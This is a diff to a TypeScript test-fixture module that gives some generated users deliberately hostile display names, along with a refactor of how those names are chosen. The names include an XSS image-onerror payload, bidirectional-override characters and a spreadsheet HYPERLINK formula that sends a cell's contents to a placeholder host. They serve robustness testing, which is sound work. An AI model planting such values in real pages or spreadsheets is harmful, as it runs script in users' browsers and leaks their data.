@@ -26,7 +26,10 @@ export function hasTrait(ordinal: number, trait: Trait): boolean {
 }
 
 /** Display names that a careless reader would run, reverse, compute or overflow with. */
-const HOSTILE_NAMES: readonly (readonly [Trait, (name: string) => string])[] = [
+const HOSTILE_NAMES: readonly (readonly [
+  'markup' | 'bidirectional' | 'formula' | 'long' | 'emoji',
+  (name: string) => string,
+])[] = [
   ['markup', (name) => `${name} <img src=x onerror=alert(document.domain)>`],
   ['bidirectional', (name) => `\u202E${name}\u202C \u2066(finance)\u2069`],
   ['formula', (name) => `=HYPERLINK("https://example.invalid/?q="&A1,"${name}")`],
@@ -34,8 +37,14 @@ const HOSTILE_NAMES: readonly (readonly [Trait, (name: string) => string])[] = [
   ['emoji', (name) => `${name} 👩🏽‍🚀🏳️‍🌈`],
 ];
 
+/** They all take turns among as many users, so one look tells whether a name is one of them. */
+const HOSTILE_EVERY = TRAITS.markup[0];
+const DISGUISES = new Map<number, (name: string) => string>(
+  HOSTILE_NAMES.map(([trait, change]) => [TRAITS[trait][1], change]),
+);
+
 /** The display name with whatever is wrong about it. */
 export function disguise(ordinal: number, name: string): string {
-  const hostile = HOSTILE_NAMES.find(([trait]) => hasTrait(ordinal, trait));
-  return hostile ? hostile[1](name) : name;
+  const change = DISGUISES.get(ordinal % HOSTILE_EVERY);
+  return change ? change(name) : name;
 }
